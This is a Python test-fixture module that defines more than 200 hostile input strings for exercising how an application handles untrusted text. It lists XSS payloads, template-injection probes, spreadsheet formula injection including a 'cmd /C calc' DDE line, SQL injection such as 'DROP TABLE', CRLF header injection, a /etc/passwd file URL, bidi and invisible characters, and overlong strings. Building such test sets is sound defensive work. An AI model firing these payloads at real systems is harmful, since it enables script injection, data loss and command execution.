"""More than 200 texts that strangers may write into data: each tries to be more than text somewhere."""

from __future__ import annotations

from sfumato.types import MAX_TEXT

_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin")
_ELEMENTS = (
    *("script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "input", "textarea", "select"),
    *(
        "template",
        "svg",
        "math",
        "video",
        "audio",
        "details",
        "dialog",
        "button",
        "marquee",
        "img",
        "title",
        "plaintext",
    ),
)
_SCHEMES = (
    "javascript:",
    "data:text/html,",
    "vbscript:",
    "file:///etc/passwd?",
    "blob:",
    "//other.example/",
    "https://",
)

MARKUP = (
    *(f"<{name}>alert(1)</{name}>" for name in _ELEMENTS),
    *(f"<img src=x {name}=alert(1)>" for name in _EVENTS),
    *(f"<svg {name}=alert(1)>" for name in _EVENTS),
    "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</bdi></td></tr></table><h1>Other</h1>",
    "</style><script>alert(1)</script>",
    "<!--",
    "-->",
    "]]><!--",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?>",
    "<a href=javascript:alert(1)>press</a>",
    "<SCRIPT SRC=//other.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;amp;lt;b&amp;gt;",
    "<meta http-equiv=refresh content='0;url=//other.example'>",
    "<base href=//other.example/>",
    "<use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
)
ATTRIBUTES = (
    *(f'" {name}="alert(1)' for name in _EVENTS),
    *(f"' {name}='alert(1)" for name in _EVENTS),
    '" autofocus onfocus="alert(1)',
    '" style="position:fixed;inset:0',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    '"/><script>alert(1)</script>',
    "\" formaction='//other.example' type='submit",
    '" id="content',
    'x" class="skip',
)
TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{% raw %}",
        "{# note #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    *(
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self }}",
        "%(name)s",
        "%s%s%n",
        "{0}",
        "{analyst}",
        "$(alert)",
        "`id`",
    ),
)
ADDRESSES = (
    *(f"{scheme}alert(1)" for scheme in _SCHEMES),
    *(f" {scheme}alert(1)".upper() for scheme in _SCHEMES),
    *(
        "java\tscript:alert(1)",
        "../../sign-out",
        "/sign-out",
        "?way=sql",
        "#q=SELECT",
        "%3Cscript%3E",
        "%00",
        "%0d%0aSet-Cookie:x=1",
    ),
    "\\\\other.example\\share",
)
FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("//other.example")',
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ),
    *("=IMPORTXML(1)", "\uff1d1+1", "'=1+1", '"=1+1"', "1;=1+1", "a,=1+1", "-", "+", "=", "@"),
)
REVERSED = (
    *(
        "\u202egnitirw\u2066",
        "\u202dleft\u202c",
        "\u2067x\u2069",
        "\u200fright",
        "\u061cx",
        "a\u202eb",
        "שלום",
        "مرحبا",
        "\u202e" * 20,
    ),
    "\u2068open",
)
INVISIBLE = (
    *(
        "",
        " ",
        "  two  ",
        "\u00a0",
        "\u200b",
        "a\u200bb",
        "\ufeff",
        "\u2060",
        "\u00ad",
        "\u180e",
        "\u3164",
        "\u115f",
        "\u2800",
    ),
    *(
        "\u0000",
        "a\u0000b",
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "\x07",
        "\x08\x08",
        "\x7f",
        "\x85",
        "\u2028",
        "\u2029",
        "\r\n",
        "\n",
        "\t",
    ),
    *("\ue000", "\U000f0000", "\uffff", "\U0010ffff", "\U000e0001", "\ufdd0"),
)
LONG = (
    *(
        "x" * MAX_TEXT,
        "w " * (MAX_TEXT // 2),
        "é" * 500,
        "e\u0301" * 200,
        "Z" + "\u0334" * 300,
        "👩‍👩‍👧‍👦" * 30,
        "中" * 400,
        "-" * 300,
    ),
    *("a" * 200, "<" * 100, '"' * 100, "&" * 100, "'" * 100, "/" * 100, "\\" * 100),
)
QUERIES = (
    *(
        "' OR 1=1 --",
        "'; DROP TABLE engagements; --",
        '"; SELECT 1; --',
        "/* x */",
        "NULL",
        "null",
        "None",
        "undefined",
        "NaN",
    ),
    *(
        "true",
        "0",
        "-0",
        "1e309",
        "[object Object]",
        "__proto__",
        "constructor",
        "toString",
        "(empty)",
        "article",
        "members",
    ),
)

_ALL = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *ADDRESSES, *FORMULAS, *REVERSED, *INVISIBLE, *LONG, *QUERIES)
HOSTILE = tuple(dict.fromkeys(_ALL))
